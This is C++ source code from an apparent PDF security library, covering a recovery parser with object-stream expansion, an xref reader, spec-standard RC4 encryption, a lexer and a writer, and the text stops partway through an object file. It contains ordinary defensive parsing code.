      if (t.kind == TokenKind::kArrayClose) {
        take();
        return Object(std::move(arr));
      }
      if (t.kind == TokenKind::kEof) throw ParseError("unterminated array");
      arr.push_back(parse_value());
    }
  }

  Object parse_dict_or_stream() {
    Dict dict(mem_);
    while (true) {
      Token t = take();
      if (t.kind == TokenKind::kDictClose) break;
      if (t.kind == TokenKind::kEof) throw ParseError("unterminated dictionary");
      if (t.kind != TokenKind::kName) {
        throw ParseError("dictionary key is not a name at offset " +
                         std::to_string(t.offset));
      }
      const std::string_view key = t.text;
      const std::string_view raw = t.raw;
      dict.set_stable(key, raw, parse_value());
    }
    // A stream keyword directly after the dict turns it into a stream object.
    const Token& after = lex_.peek();
    if (after.kind == TokenKind::kKeyword && after.text == "stream") {
      take();
      return parse_stream_body(std::move(dict));
    }
    return Object(std::move(dict));
  }

  Object parse_stream_body(Dict dict) {
    lex_.skip_eol();
    ++stats_.streams;
    const Object* len = dict.find("Length");
    if (len && len->is_int() && len->as_int() >= 0) {
      const auto n = static_cast<std::size_t>(len->as_int());
      const std::size_t mark = lex_.position();
      try {
        const BytesView data = lex_.read_raw(n);
        // The spec requires "endstream" (after optional EOL) next; verify.
        Token t = lex_.next();
        if (t.kind == TokenKind::kKeyword && t.text == "endstream") {
          return Object(Stream{std::move(dict), CowBytes::borrow(data)});
        }
      } catch (const support::Error&) {
        // fall through to the scan below
      }
      lex_.seek(mark);
    }
    // /Length missing, indirect, or wrong: scan for the endstream keyword.
    const std::size_t start = lex_.position();
    const std::size_t end = lex_.find_forward("endstream");
    if (end == std::string_view::npos) throw ParseError("unterminated stream");
    std::size_t data_end = end;
    // Trim the EOL that belongs to the endstream keyword, not the data.
    const BytesView all = lex_.data();
    if (data_end > start && all[data_end - 1] == '\n') --data_end;
    if (data_end > start && all[data_end - 1] == '\r') --data_end;
    lex_.seek(start);
    const BytesView data = lex_.read_raw(data_end - start);
    lex_.seek(end);
    Token t = lex_.next();  // consume "endstream"
    (void)t;
    dict.set("Length", Object(static_cast<std::int64_t>(data.size())));
    return Object(Stream{std::move(dict), CowBytes::borrow(data)});
  }

  Lexer& lex_;
  ParseStats& stats_;
  std::pmr::memory_resource* mem_;
  int depth_ = 0;
};

HeaderInfo scan_header(BytesView data) {
  HeaderInfo info;
  const std::string_view text = support::as_view(data);
  // The spec requires the header within the first 1024 bytes (§3.4.1).
  const std::string_view window = text.substr(0, std::min<std::size_t>(1024, text.size()));
  const std::size_t pos = window.find("%PDF-");
  if (pos == std::string_view::npos) return info;
  info.found = true;
  info.offset = pos;
  std::size_t v = pos + 5;
  while (v < text.size() && (std::isdigit(static_cast<unsigned char>(text[v])) || text[v] == '.')) {
    info.version.push_back(text[v]);
    ++v;
  }
  info.version_valid = is_known_pdf_version(info.version);
  return info;
}

// Re-interns every name and dict key through the unbounded (trusted) path.
// The parse path dedupes through the bounded table, which beyond its cap
// hands back views into parse-time storage; callers that outlive that
// storage (parse_object_text's scratch arena) re-anchor here. Recursion is
// safe: parsing already capped nesting at kMaxDepth.
void reintern_names(Object& obj) {
  if (auto* n = std::get_if<Name>(&obj.value())) {
    *n = Name(n->value, n->raw);
    return;
  }
  if (auto* arr = std::get_if<Array>(&obj.value())) {
    for (Object& item : *arr) reintern_names(item);
    return;
  }
  Dict* dict = nullptr;
  if (auto* d = std::get_if<Dict>(&obj.value())) dict = d;
  if (auto* s = std::get_if<Stream>(&obj.value())) dict = &s->dict;
  if (dict) {
    for (auto& e : dict->entries()) {
      e.key = support::name_table().intern(e.key);
      e.raw_key = support::name_table().intern(e.raw_key);
      reintern_names(e.value);
    }
  }
}

}  // namespace

void expand_object_streams(Document& doc, ParseStats& stats);

Object parse_object_text(std::string_view text) {
  const Bytes data = support::to_bytes(text);
  support::Arena arena;  // scratch: dies with this call
  Lexer lex(data, arena);
  ParseStats stats;
  ObjectParser parser(lex, stats, &arena);
  const Object parsed = parser.parse_value();
  // Copying detaches: the returned object owns all its storage and is
  // independent of the scratch arena above. Spelled as an explicit copy
  // because `return parsed;` is NRVO-eligible — elision would skip the
  // detach and hand the caller dangling borrows. Names additionally
  // re-intern through the trusted table: this entry point only sees
  // program-defined text, and its result must stay valid even when the
  // bounded table is at capacity.
  Object detached(parsed);
  reintern_names(detached);
  return detached;
}

Document parse_document(BytesView input, ParseStats* stats_out,
                        support::ArenaHandle arena) {
  if (!arena) arena = std::make_shared<support::Arena>();
  Document doc(arena);
  ParseStats stats;

  // The input is copied exactly once — into the document's arena. Every
  // borrowed token, name spelling, string and stream body below points
  // into this stable buffer (or into arena-decoded storage beside it), so
  // the graph and its backing bytes share one lifetime.
  const BytesView data = arena->copy_bytes(input);
  doc.header() = scan_header(data);

  Lexer lex(data, *arena);
  ObjectParser parser(lex, stats, arena.get());

  // Sequential recovery scan: walk tokens; each "N G obj" begins an
  // indirect object, "trailer" a trailer dictionary. Junk is skipped.
  while (true) {
    const std::size_t mark = lex.position();
    Token t;
    try {
      t = lex.next();
    } catch (const support::Error&) {
      ++stats.skipped_junk;
      lex.seek(mark + 1);
      continue;
    }
    if (t.kind == TokenKind::kEof) break;

    if (t.kind == TokenKind::kInteger) {
      // Candidate "N G obj".
      const std::size_t after_num = lex.position();
      try {
        const Token gen = lex.peek();
        if (gen.kind == TokenKind::kInteger) {
          lex.next();
          const Token kw = lex.peek();
          if (kw.kind == TokenKind::kKeyword && kw.text == "obj") {
            lex.next();
            Object obj = parser.parse_value();
            // Consume an optional endobj.
            const Token& end = lex.peek();
            if (end.kind == TokenKind::kKeyword && end.text == "endobj") lex.next();
            doc.set_object(Ref{static_cast<int>(t.int_value),
                               static_cast<int>(gen.int_value)},
                           std::move(obj));
            ++stats.indirect_objects;
            support::AllocStats::note_object();
            continue;
          }
        }
      } catch (const support::Error&) {
        ++stats.skipped_junk;
        lex.seek(after_num);
        continue;
      }
      lex.seek(after_num);
      continue;
    }

    if (t.kind == TokenKind::kKeyword && t.text == "trailer") {
      try {
        Object tr = parser.parse_value();
        if (tr.is_dict()) {
          // Merge in file order: later trailers overwrite earlier keys.
          // Keys are parse-derived views, so stay on the bounded path.
          for (auto& e : tr.as_dict().entries()) {
            doc.trailer().set_stable(e.key, {}, e.value);
          }
        }
      } catch (const support::Error&) {
        ++stats.skipped_junk;
      }
      continue;
    }

    if (t.kind == TokenKind::kKeyword && t.text == "xref") {
      // Classic xref tables are integer/`n`/`f` token soup the scan would
      // walk — and re-walk through the candidate logic — without ever
      // acting on: no window inside a strict fixed-width table can form
      // "N G obj" or "trailer". Batch-validate each subsection and jump
      // over it wholesale; a deviating table resumes token-at-a-time from
      // the last strict point, which reproduces the old behavior exactly.
      for (;;) {
        const std::size_t sub_mark = lex.position();
        try {
          if (lex.peek().kind != TokenKind::kInteger) break;
          lex.next();
          const Token count = lex.peek();
          if (count.kind != TokenKind::kInteger || count.int_value <= 0) {
            lex.seek(sub_mark);
            break;
          }
          lex.next();
          const auto end =
              match_xref_records(data, lex.position(), count.int_value);
          if (!end) {
            lex.seek(sub_mark);
            break;
          }
          lex.seek(*end);
        } catch (const support::Error&) {
          lex.seek(sub_mark);
          break;
        }
      }
      continue;
    }

    // startxref offsets, %%EOF and anything else: skip.
  }

  if (stats.indirect_objects == 0) {
    throw ParseError("no PDF objects found in input");
  }

  // Expand object streams (/Type /ObjStm, PDF 1.5+): compressed containers
  // holding further indirect objects. Malicious documents use them to hide
  // Javascript from naive scanners, so the recovery parse must open them.
  expand_object_streams(doc, stats);

  if (stats_out) *stats_out = stats;
  return doc;
}

void expand_object_streams(Document& doc, ParseStats& stats) {
  // Collect first (expansion mutates the object table). The Stream copies
  // detach their bodies, so mutating the table is safe.
  std::vector<Stream> object_streams;
  for (const auto& [num, obj] : doc.objects()) {
    if (!obj.is_stream()) continue;
    const Object* type = obj.as_stream().dict.find("Type");
    if (type && type->is_name() && type->as_name().value == "ObjStm") {
      object_streams.push_back(obj.as_stream());
    }
  }
  if (object_streams.empty()) return;

  // Sub-objects parsed out of a container borrow from the decoded bytes,
  // so those bytes must live as long as the document: arena-copy them.
  const support::ArenaHandle& arena = doc.ensure_arena();

  for (const Stream& stm : object_streams) {
    support::Bytes decoded;
    try {
      decoded = decode_stream(stm);
    } catch (const support::Error&) {
      continue;  // undecodable container: skip
    }
    const BytesView plain = arena->copy_bytes(decoded);
    const Object* n_obj = stm.dict.find("N");
    const Object* first_obj = stm.dict.find("First");
    if (!n_obj || !n_obj->is_int() || !first_obj || !first_obj->is_int()) continue;
    const auto n = static_cast<std::size_t>(std::max<std::int64_t>(0, n_obj->as_int()));
    const auto first = static_cast<std::size_t>(
        std::max<std::int64_t>(0, first_obj->as_int()));
    if (first > plain.size()) continue;

    // Header: N pairs of "objnum offset".
    Lexer header(plain, *arena);
    std::vector<std::pair<int, std::size_t>> entries;
    try {
      for (std::size_t i = 0; i < n; ++i) {
        const Token num_tok = header.next();
        const Token off_tok = header.next();
        if (num_tok.kind != TokenKind::kInteger ||
            off_tok.kind != TokenKind::kInteger) {
          break;
        }
        entries.emplace_back(static_cast<int>(num_tok.int_value),
                             static_cast<std::size_t>(off_tok.int_value));
      }
    } catch (const support::Error&) {
      ++stats.skipped_junk;
      continue;
    }

    for (const auto& [obj_num, offset] : entries) {
      if (first + offset >= plain.size()) continue;
      // Objects already defined by a later update win (first definition in
      // the main scan has priority over the packed copy only if present).
      if (doc.object({obj_num, 0})) continue;
      try {
        Lexer lex(plain, *arena, first + offset);
        ParseStats sub;
        ObjectParser parser(lex, sub, arena.get());
        doc.set_object({obj_num, 0}, parser.parse_value());
        ++stats.indirect_objects;
        support::AllocStats::note_object();
      } catch (const support::Error&) {
        ++stats.skipped_junk;
      }
    }
  }
}

}  // namespace pdfshield::pdf
