// Cross-reference table reader (PDF Reference §3.4.3/§3.4.4). The
// recovery parser deliberately ignores xref data (malicious files lie in
// it), but spec-conformant tables are still required of our *writer* so
// real tools can open instrumented output. This module reads them back
// for conformance checking and exposes revision structure (incremental
// updates chain through /Prev).
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <vector>

#include "support/bytes.hpp"

namespace pdfshield::pdf {

struct XrefEntry {
  std::size_t offset = 0;
  int generation = 0;
  bool in_use = false;  ///< 'n' entries; 'f' entries are free
};

struct XrefSection {
  std::size_t position = 0;               ///< byte offset of the "xref" keyword
  std::map<int, XrefEntry> entries;       ///< object number -> entry
  std::optional<std::size_t> prev;        ///< trailer /Prev, if any
};

/// Reads the startxref value at the end of the file; nullopt if absent.
std::optional<std::size_t> read_startxref(support::BytesView file);

/// Matches `count` spec-exact 20-byte xref records ("nnnnnnnnnn ggggg t??"
/// with t in [nf] and two SP/CR/LF trailer bytes) at `pos` (leading
/// whitespace is skipped first). Returns the end offset of the block, or
/// nullopt the moment any record deviates. Pure validation — shared by the
/// batched table reader here and the recovery scan's table skip, both of
/// which fall back to token-at-a-time lexing when it declines.
std::optional<std::size_t> match_xref_records(support::BytesView file,
                                              std::size_t pos,
                                              std::int64_t count);

/// Parses the xref section at `offset` (must point at the "xref" keyword).
/// Throws ParseError on malformed tables.
XrefSection read_xref_section(support::BytesView file, std::size_t offset);

/// Follows the /Prev chain from the final revision backwards. The first
/// element is the newest revision. Stops on cycles or after 64 revisions.
std::vector<XrefSection> read_xref_chain(support::BytesView file);

/// Conformance check: every in-use entry of the newest revision chain must
/// point at a matching "N G obj" header. Returns the object numbers whose
/// offsets are wrong (empty = conformant).
std::vector<int> verify_xref_offsets(support::BytesView file);

}  // namespace pdfshield::pdf
