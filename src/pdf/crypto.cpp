#include "pdf/crypto.hpp"

#include <algorithm>

#include "support/md5.hpp"

namespace pdfshield::pdf {

using support::Bytes;
using support::BytesView;

namespace {

// The 32-byte padding string of §3.5.2.
constexpr std::uint8_t kPad[32] = {
    0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41, 0x64, 0x00, 0x4E,
    0x56, 0xFF, 0xFA, 0x01, 0x08, 0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68,
    0x3E, 0x80, 0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A};

Bytes pad_password(const std::string& password) {
  Bytes out;
  out.reserve(32);
  for (std::size_t i = 0; i < password.size() && i < 32; ++i) {
    out.push_back(static_cast<std::uint8_t>(password[i]));
  }
  for (std::size_t i = out.size(); i < 32; ++i) out.push_back(kPad[i - password.size()]);
  return out;
}

void append_u32le(Bytes& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

Bytes md5_bytes(BytesView data) {
  const support::Md5Digest d = support::md5(data);
  return Bytes(d.begin(), d.end());
}

}  // namespace

Bytes rc4(BytesView key, BytesView data) {
  std::uint8_t s[256];
  for (int i = 0; i < 256; ++i) s[i] = static_cast<std::uint8_t>(i);
  if (!key.empty()) {
    int j = 0;
    for (int i = 0; i < 256; ++i) {
      j = (j + s[i] + key[static_cast<std::size_t>(i) % key.size()]) & 0xff;
      std::swap(s[i], s[j]);
    }
  }
  Bytes out;
  out.reserve(data.size());
  int i = 0, j = 0;
  for (std::uint8_t byte : data) {
    i = (i + 1) & 0xff;
    j = (j + s[i]) & 0xff;
    std::swap(s[i], s[j]);
    out.push_back(static_cast<std::uint8_t>(byte ^ s[(s[i] + s[j]) & 0xff]));
  }
  return out;
}

Bytes compute_file_key(const EncryptionParams& params,
                       const std::string& user_password) {
  // Algorithm 3.2.
  Bytes input = pad_password(user_password);
  input.insert(input.end(), params.o_entry.begin(), params.o_entry.end());
  append_u32le(input, static_cast<std::uint32_t>(params.permissions));
  input.insert(input.end(), params.file_id.begin(), params.file_id.end());
  Bytes hash = md5_bytes(input);
  if (params.revision >= 3) {
    for (int i = 0; i < 50; ++i) {
      hash = md5_bytes(BytesView(hash.data(),
                                 static_cast<std::size_t>(params.key_length_bytes)));
    }
  }
  hash.resize(static_cast<std::size_t>(params.key_length_bytes));
  return hash;
}

Bytes compute_o_entry(const std::string& owner_password,
                      const std::string& user_password, int revision,
                      int key_length_bytes) {
  // Algorithm 3.3. An empty owner password falls back to the user password.
  const std::string& effective =
      owner_password.empty() ? user_password : owner_password;
  Bytes hash = md5_bytes(pad_password(effective));
  if (revision >= 3) {
    for (int i = 0; i < 50; ++i) hash = md5_bytes(hash);
  }
  Bytes key(hash.begin(), hash.begin() + key_length_bytes);
  Bytes o = rc4(key, pad_password(user_password));
  if (revision >= 3) {
    for (int i = 1; i <= 19; ++i) {
      Bytes round_key = key;
      for (auto& b : round_key) b = static_cast<std::uint8_t>(b ^ i);
      o = rc4(round_key, o);
    }
  }
  return o;
}

Bytes compute_u_entry(const EncryptionParams& params,
                      const std::string& user_password) {
  const Bytes key = compute_file_key(params, user_password);
  if (params.revision == 2) {
    // Algorithm 3.4.
    return rc4(key, BytesView(kPad, 32));
  }
  // Algorithm 3.5.
  Bytes input(kPad, kPad + 32);
  input.insert(input.end(), params.file_id.begin(), params.file_id.end());
  Bytes u = rc4(key, md5_bytes(input));
  for (int i = 1; i <= 19; ++i) {
    Bytes round_key = key;
    for (auto& b : round_key) b = static_cast<std::uint8_t>(b ^ i);
    u = rc4(round_key, u);
  }
  u.resize(32, 0);  // pad to 32 with arbitrary (zero) bytes
  return u;
}

bool verify_user_password(const EncryptionParams& params,
                          const std::string& user_password) {
  const Bytes expected = compute_u_entry(params, user_password);
  if (params.u_entry.size() < 16 || expected.size() < 16) return false;
  // R3 compares the first 16 bytes only; R2 compares all 32.
  const std::size_t n = params.revision >= 3 ? 16 : 32;
  if (params.u_entry.size() < n) return false;
  return std::equal(expected.begin(), expected.begin() + static_cast<std::ptrdiff_t>(n),
                    params.u_entry.begin());
}

Bytes crypt_object_data(const Bytes& file_key, int obj_num, int gen,
                        BytesView data) {
  // Algorithm 3.1.
  Bytes input = file_key;
  input.push_back(static_cast<std::uint8_t>(obj_num));
  input.push_back(static_cast<std::uint8_t>(obj_num >> 8));
  input.push_back(static_cast<std::uint8_t>(obj_num >> 16));
  input.push_back(static_cast<std::uint8_t>(gen));
  input.push_back(static_cast<std::uint8_t>(gen >> 8));
  Bytes hash = md5_bytes(input);
  hash.resize(std::min<std::size_t>(file_key.size() + 5, 16));
  return rc4(hash, data);
}

namespace {

void crypt_strings_in(Object& obj, const Bytes& file_key, int num, int gen) {
  switch (obj.value().index()) {
    case 4: {  // string
      String& s = std::get<String>(obj.value());
      s.data = crypt_object_data(file_key, num, gen, s.data);
      return;
    }
    case 6:  // array
      for (Object& item : obj.as_array()) crypt_strings_in(item, file_key, num, gen);
      return;
    case 7:  // dict
      for (auto& e : obj.as_dict().entries()) {
        crypt_strings_in(e.value, file_key, num, gen);
      }
      return;
    case 8: {  // stream: dict strings + data
      Stream& s = obj.as_stream();
      for (auto& e : s.dict.entries()) crypt_strings_in(e.value, file_key, num, gen);
      s.data = crypt_object_data(file_key, num, gen, s.data);
      s.dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
      return;
    }
    default:
      return;
  }
}

std::optional<EncryptionParams> params_from_document(const Document& doc) {
  const Object* enc = doc.trailer().find("Encrypt");
  if (!enc) return std::nullopt;
  const Object& resolved = doc.resolve(*enc);
  if (!resolved.is_dict()) return std::nullopt;
  const Dict& d = resolved.as_dict();

  const Object* filter = d.find("Filter");
  if (!filter || !filter->is_name() || filter->as_name().value != "Standard") {
    return std::nullopt;
  }
  EncryptionParams params;
  if (const Object* r = d.find("R"); r && r->is_int()) {
    params.revision = static_cast<int>(r->as_int());
  }
  if (const Object* len = d.find("Length"); len && len->is_int()) {
    params.key_length_bytes = static_cast<int>(len->as_int()) / 8;
  }
  if (const Object* p = d.find("P"); p && p->is_int()) {
    params.permissions = static_cast<std::int32_t>(p->as_int());
  }
  if (const Object* o = d.find("O"); o && o->is_string()) {
    params.o_entry = o->as_string().data.copy();
  }
  if (const Object* u = d.find("U"); u && u->is_string()) {
    params.u_entry = u->as_string().data.copy();
  }
  if (const Object* id = doc.trailer().find("ID");
      id && id->is_array() && !id->as_array().empty() &&
      id->as_array()[0].is_string()) {
    params.file_id = id->as_array()[0].as_string().data.copy();
  }
  if (params.o_entry.size() != 32 || params.u_entry.size() != 32) {
    return std::nullopt;
  }
  return params;
}

}  // namespace

void encrypt_document(Document& doc, const std::string& owner_password,
                      support::Rng& rng, int revision) {
  EncryptionParams params;
  params.revision = revision;
  params.key_length_bytes = revision >= 3 ? 16 : 5;
  params.file_id = rng.bytes(16);
  params.o_entry = compute_o_entry(owner_password, /*user_password=*/"",
                                   revision, params.key_length_bytes);
  params.u_entry = compute_u_entry(params, /*user_password=*/"");

  const Bytes file_key = compute_file_key(params, /*user_password=*/"");
  for (auto& [num, obj] : doc.objects()) {
    crypt_strings_in(obj, file_key, num, 0);
  }

  Dict enc;
  enc.set("Filter", Object::name("Standard"));
  enc.set("V", Object(revision >= 3 ? 2 : 1));
  enc.set("R", Object(revision));
  enc.set("Length", Object(params.key_length_bytes * 8));
  enc.set("P", Object(static_cast<std::int64_t>(params.permissions)));
  enc.set("O", Object(String{params.o_entry, /*hex=*/true}));
  enc.set("U", Object(String{params.u_entry, /*hex=*/true}));
  doc.trailer().set("Encrypt", Object(enc));
  doc.trailer().set(
      "ID", Object(Array{Object(String{params.file_id, true}),
                         Object(String{params.file_id, true})}));
}

bool is_encrypted(const Document& doc) {
  return params_from_document(doc).has_value();
}

bool decrypt_document(Document& doc, const std::string& user_password) {
  const std::optional<EncryptionParams> params = params_from_document(doc);
  if (!params) return false;
  if (!verify_user_password(*params, user_password)) return false;

  const Bytes file_key = compute_file_key(*params, user_password);
  // Strings inside an *indirect* /Encrypt dictionary are exempt.
  int encrypt_obj = -1;
  if (const Object* enc = doc.trailer().find("Encrypt"); enc && enc->is_ref()) {
    encrypt_obj = enc->as_ref().num;
  }
  for (auto& [num, obj] : doc.objects()) {
    if (num == encrypt_obj) continue;
    crypt_strings_in(obj, file_key, num, 0);  // RC4 is its own inverse
  }
  doc.trailer().erase("Encrypt");
  if (encrypt_obj >= 0) doc.set_object({encrypt_obj, 0}, Object::null());
  return true;
}

}  // namespace pdfshield::pdf
