// Tokenizer for PDF syntax (PDF Reference §3.1): numbers, names with #xx
// escapes, literal and hex strings, delimiters, keywords, comments.
//
// Zero-copy: tokens are views. Undecorated names, keywords and
// escape-free literal strings borrow straight from the input buffer;
// only constructs that need transformation (#xx names, escaped literal
// strings, hex strings) are decoded — into the arena, never the heap.
// Token views are valid as long as the input buffer and the arena live.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>

#include "support/arena.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

enum class TokenKind {
  kEof,
  kInteger,
  kReal,
  kName,        ///< text = decoded name, raw = original spelling if escaped
  kString,      ///< bytes = decoded contents; hex=true for <...> strings
  kArrayOpen,   // [
  kArrayClose,  // ]
  kDictOpen,    // <<
  kDictClose,   // >>
  kKeyword,     ///< obj, endobj, stream, R, true, false, null, xref, ...
};

struct Token {
  TokenKind kind = TokenKind::kEof;
  std::string_view text;    ///< keyword text or decoded name value
  std::string_view raw;     ///< original spelling for names with #xx escapes
  support::BytesView bytes; ///< decoded string contents
  bool hex_string = false;
  std::int64_t int_value = 0;
  double real_value = 0.0;
  std::size_t offset = 0;  ///< byte offset of the token start
};

/// One-token-lookahead lexer over an in-memory document. Pass an arena to
/// co-locate decoded token storage with the document being built; without
/// one the lexer lazily creates a private arena for its own decodes.
class Lexer {
 public:
  explicit Lexer(support::BytesView data, std::size_t start = 0)
      : data_(data), pos_(start) {}
  Lexer(support::BytesView data, support::Arena& arena,
        std::size_t start = 0)
      : data_(data), pos_(start), arena_(&arena) {}

  /// Reads the next token. Throws ParseError on malformed constructs.
  Token next();

  /// Peeks without consuming.
  const Token& peek();

  /// Current byte offset (start of the next unread token when peeked).
  std::size_t position() const { return peeked_ ? peek_.offset : pos_; }

  /// Repositions the lexer (drops any lookahead).
  void seek(std::size_t pos);

  /// Views `n` raw bytes from the current position (used for stream data)
  /// without copying. Drops lookahead first. Throws ParseError past end.
  support::BytesView read_raw(std::size_t n);

  /// Skips an end-of-line sequence (CR, LF, or CRLF) if present.
  void skip_eol();

  /// Scans forward from the current position for `needle`, returning its
  /// offset or npos. Does not move the lexer.
  std::size_t find_forward(std::string_view needle) const;

  support::BytesView data() const { return data_; }

 private:
  void skip_whitespace_and_comments();
  Token lex_number();
  Token lex_name();
  Token lex_literal_string();
  Token lex_hex_string_or_dict_open();
  Token lex_keyword();

  support::Arena& arena() {
    if (arena_ == nullptr) {
      own_arena_ = std::make_unique<support::Arena>();
      arena_ = own_arena_.get();
    }
    return *arena_;
  }

  std::uint8_t at(std::size_t i) const { return data_[i]; }
  bool eof() const { return pos_ >= data_.size(); }

  support::BytesView data_;
  std::size_t pos_ = 0;
  support::Arena* arena_ = nullptr;
  std::unique_ptr<support::Arena> own_arena_;
  bool peeked_ = false;
  Token peek_;
};

/// True for PDF whitespace characters (§3.1.1).
bool is_pdf_whitespace(std::uint8_t c);

/// True for PDF delimiter characters.
bool is_pdf_delimiter(std::uint8_t c);

/// Encodes a decoded name for writing, escaping bytes that require #xx.
std::string encode_name(std::string_view value);

}  // namespace pdfshield::pdf
