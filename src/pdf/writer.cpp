#include "pdf/writer.hpp"

#include <cinttypes>
#include <cstdlib>
#include <cstdio>
#include <sstream>

#include "pdf/lexer.hpp"
#include "support/strings.hpp"

namespace pdfshield::pdf {

using support::Bytes;

namespace {

void write_string_object(std::string& out, const String& s) {
  if (s.hex) {
    static const char kHex[] = "0123456789ABCDEF";
    out.push_back('<');
    for (std::uint8_t b : s.data) {
      out.push_back(kHex[b >> 4]);
      out.push_back(kHex[b & 0xf]);
    }
    out.push_back('>');
    return;
  }
  out.push_back('(');
  for (std::uint8_t b : s.data) {
    switch (b) {
      case '(': out += "\\("; break;
      case ')': out += "\\)"; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (b < 0x20 || b > 0x7e) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\%03o", b);
          out += buf;
        } else {
          out.push_back(static_cast<char>(b));
        }
    }
  }
  out.push_back(')');
}

void write_value(std::string& out, const Object& obj);

void write_dict(std::string& out, const Dict& dict) {
  out += "<< ";
  for (const auto& e : dict.entries()) {
    if (e.raw_key.empty()) {
      out += encode_name(e.key);
    } else {
      out += e.raw_key;
    }
    out.push_back(' ');
    write_value(out, e.value);
    out.push_back(' ');
  }
  out += ">>";
}

void write_value(std::string& out, const Object& obj) {
  switch (obj.value().index()) {
    case 0:
      out += "null";
      return;
    case 1:
      out += obj.as_bool() ? "true" : "false";
      return;
    case 2: {
      char buf[32];
      std::snprintf(buf, sizeof(buf), "%" PRId64, obj.as_int());
      out += buf;
      return;
    }
    case 3: {
      std::string num = support::format_double(obj.as_number(), 6);
      // Keep the decimal point so a real stays a real when re-parsed.
      if (num.find('.') == std::string::npos) num += ".0";
      out += num;
      return;
    }
    case 4:
      write_string_object(out, obj.as_string());
      return;
    case 5: {
      const Name& n = obj.as_name();
      if (n.raw.empty()) {
        out += encode_name(n.value);
      } else {
        out += n.raw;
      }
      return;
    }
    case 6: {
      out += "[ ";
      for (const Object& item : obj.as_array()) {
        write_value(out, item);
        out.push_back(' ');
      }
      out += "]";
      return;
    }
    case 7:
      write_dict(out, obj.as_dict());
      return;
    case 8: {
      // Stream body is handled by the document writer; standalone
      // serialization emits only the dictionary part.
      write_dict(out, obj.as_stream().dict);
      return;
    }
    case 9: {
      const Ref r = obj.as_ref();
      out += std::to_string(r.num) + " " + std::to_string(r.gen) + " R";
      return;
    }
  }
}

}  // namespace

support::Bytes write_incremental_update(support::BytesView original,
                                        const Document& updated,
                                        const std::set<int>& changed) {
  std::string body(support::as_view(original));
  if (!body.empty() && body.back() != '\n') body += "\n";

  // Locate the base revision's startxref offset for /Prev.
  long long prev_xref = -1;
  if (const std::size_t sx = body.rfind("startxref"); sx != std::string::npos) {
    prev_xref = std::atoll(body.c_str() + sx + 9);
  }

  std::map<int, std::size_t> offsets;
  for (int num : changed) {
    const Object* obj = updated.object({num, 0});
    if (!obj) continue;
    offsets[num] = body.size();
    body += std::to_string(num) + " 0 obj\n";
    if (obj->is_stream()) {
      const Stream& s = obj->as_stream();
      Dict dict = s.dict;
      dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
      write_dict(body, dict);
      body += "\nstream\n";
      body.append(reinterpret_cast<const char*>(s.data.data()), s.data.size());
      body += "\nendstream";
    } else {
      write_value(body, *obj);
    }
    body += "\nendobj\n";
  }

  // Cross-reference section: one subsection per contiguous run.
  const std::size_t xref_pos = body.size();
  body += "xref\n";
  auto it = offsets.begin();
  while (it != offsets.end()) {
    auto run_end = it;
    int expect = it->first;
    while (run_end != offsets.end() && run_end->first == expect) {
      ++run_end;
      ++expect;
    }
    body += std::to_string(it->first) + " " +
            std::to_string(expect - it->first) + "\n";
    for (; it != run_end; ++it) {
      char buf[32];
      std::snprintf(buf, sizeof(buf), "%010zu 00000 n \n", it->second);
      body += buf;
    }
  }

  Dict trailer = updated.trailer();
  trailer.set("Size", Object(static_cast<std::int64_t>(updated.max_object_number() + 1)));
  if (prev_xref >= 0) {
    trailer.set("Prev", Object(static_cast<std::int64_t>(prev_xref)));
  }
  body += "trailer\n";
  write_dict(body, trailer);
  body += "\nstartxref\n" + std::to_string(xref_pos) + "\n%%EOF\n";
  return support::to_bytes(body);
}

std::string write_object(const Object& obj) {
  std::string out;
  write_value(out, obj);
  return out;
}

Bytes write_document(const Document& doc, const WriteOptions& opts) {
  std::string body;

  if (opts.junk_prefix_bytes > 0) {
    // Comment padding; keeps the file a valid PDF as long as the header
    // still lands within the first 1024 bytes.
    body += "%";
    body.append(opts.junk_prefix_bytes, ' ');
    body += "\n";
  }

  std::string version = opts.force_version;
  if (version.empty()) {
    version = doc.header().version.empty() ? "1.7" : doc.header().version;
  }
  body += "%PDF-" + version + "\n";
  // Binary-content marker comment recommended by the spec.
  body += "%\xe2\xe3\xcf\xd3\n";

  std::map<int, std::size_t> offsets;
  for (const auto& [num, obj] : doc.objects()) {
    offsets[num] = body.size();
    body += std::to_string(num) + " 0 obj\n";
    if (obj.is_stream()) {
      const Stream& s = obj.as_stream();
      Dict dict = s.dict;  // ensure /Length matches the stored data
      dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
      write_dict(body, dict);
      body += "\nstream\n";
      body.append(reinterpret_cast<const char*>(s.data.data()), s.data.size());
      body += "\nendstream";
    } else {
      write_value(body, obj);
    }
    body += "\nendobj\n";
  }

  // Cross-reference table covering 0..max contiguously; unused numbers are
  // written as free entries.
  const int max_num = doc.max_object_number();
  const std::size_t xref_pos = body.size();
  body += "xref\n0 " + std::to_string(max_num + 1) + "\n";
  body += "0000000000 65535 f \n";
  for (int num = 1; num <= max_num; ++num) {
    char buf[32];
    auto it = offsets.find(num);
    if (it != offsets.end()) {
      std::snprintf(buf, sizeof(buf), "%010zu 00000 n \n", it->second);
    } else {
      std::snprintf(buf, sizeof(buf), "%010d 65535 f \n", 0);
    }
    body += buf;
  }

  Dict trailer = doc.trailer();
  trailer.set("Size", Object(static_cast<std::int64_t>(max_num + 1)));
  body += "trailer\n";
  write_dict(body, trailer);
  body += "\nstartxref\n" + std::to_string(xref_pos) + "\n%%EOF\n";

  return support::to_bytes(body);
}

}  // namespace pdfshield::pdf
