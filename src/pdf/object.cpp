#include "pdf/object.hpp"

#include "support/interner.hpp"

namespace pdfshield::pdf {

Name::Name(std::string_view v) : value(support::name_table().intern(v)) {}

Name::Name(std::string_view v, std::string_view r)
    : value(support::name_table().intern(v)),
